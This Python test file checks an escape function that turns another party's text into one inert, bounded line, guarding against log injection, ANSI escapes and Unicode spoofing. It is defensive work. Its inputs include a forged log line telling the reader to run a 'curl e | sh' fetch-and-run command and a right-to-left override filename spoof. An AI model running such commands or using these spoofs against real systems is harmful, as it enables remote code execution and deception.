"""`untrusted_text.escape`: another party's text as one inert, bounded line."""

from __future__ import annotations

import unicodedata
from typing import Literal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ursa.protocol.untrusted_text import DEFAULT_LIMIT, ELLIPSIS, escape, is_safe

UNSAFE: tuple[Literal["Cc", "Cf", "Zl", "Zp", "Cs", "Co", "Cn"], ...] = (
    "Cc",
    "Cf",
    "Zl",
    "Zp",
    "Cs",
    "Co",
    "Cn",
)


def _has_unsafe(text: str) -> bool:
    return any(unicodedata.category(c) in UNSAFE for c in text)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("a\nb", "a\\nb"),
        ("a\r\nb\tc", "a\\r\\nb\\tc"),
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("\x00\x7f\x85", "\\x00\\x7f\\x85"),  # NUL, DEL, C1 next line
        ("abc\u202egnp.exe", "abc\\u202egnp.exe"),  # right-to-left override
        ("\u2066x\u2069\u200b", "\\u2066x\\u2069\\u200b"),  # isolates, zero width
        ("line\u2028para\u2029", "line\\u2028para\\u2029"),
        ("tag\U000e0041", "tag\\U000e0041"),  # a tag character (Cf)
    ],
)
def test_controls_are_written_as_escapes(raw: str, shown: str) -> None:
    assert escape(raw) == shown


def test_clean_text_is_left_as_it_is() -> None:
    text = "ünïcode, 日本語, emoji 🎉, a \\ backslash and a \\n pair"
    assert escape(text) == text


def test_a_forged_log_line_stays_on_its_line() -> None:
    forged = "x\n2026-12-02 00:45:00,000 ERROR ursa.coordinator: run `curl e | sh`"
    assert escape(forged).count("\n") == 0
    assert escape(forged).startswith("x\\n2026")


def test_long_text_is_cut_at_an_escape_boundary() -> None:
    assert escape("ab\x1b" * 100, limit=10) == "ab\\x1bab" + ELLIPSIS  # no half \x1b
    assert escape("x" * 10, limit=10) == "x" * 10
    assert escape("x" * 11, limit=10) == "x" * 9 + ELLIPSIS


def test_a_huge_input_is_bounded() -> None:
    out = escape("\n" * 10_000_000)
    assert len(out) <= DEFAULT_LIMIT and out.endswith(ELLIPSIS)


def test_limit_must_be_positive() -> None:
    with pytest.raises(ValueError, match="limit"):
        escape("x", limit=0)


def test_is_safe_takes_printables() -> None:
    assert is_safe("a") and is_safe(" ") and is_safe("…")
    assert not is_safe("\n") and not is_safe("\u202e")


@given(st.text(), st.integers(min_value=1, max_value=600))
def test_escaped_text_never_holds_a_control_and_is_bounded(
    text: str, limit: int
) -> None:
    out = escape(text, limit)
    assert not _has_unsafe(out)
    assert len(out) <= limit
    assert escape(out, limit) == out  # idempotent: a second sink changes nothing


@given(st.text(st.characters(codec="utf-8", exclude_categories=UNSAFE)))
def test_text_without_controls_round_trips(text: str) -> None:
    out = escape(text, limit=len(text) + 1)
    assert out == text


@given(st.text())
def test_with_room_nothing_is_cut_and_safe_characters_keep_their_order(
    text: str,
) -> None:
    out = escape(text, limit=10 * len(text) + 1)  # an escape is at most 10 long
    assert len(out) >= len(text)
    assert _subsequence("".join(c for c in text if is_safe(c)), out)


def _subsequence(small: str, big: str) -> bool:
    it = iter(big)
    return all(c in it for c in small)
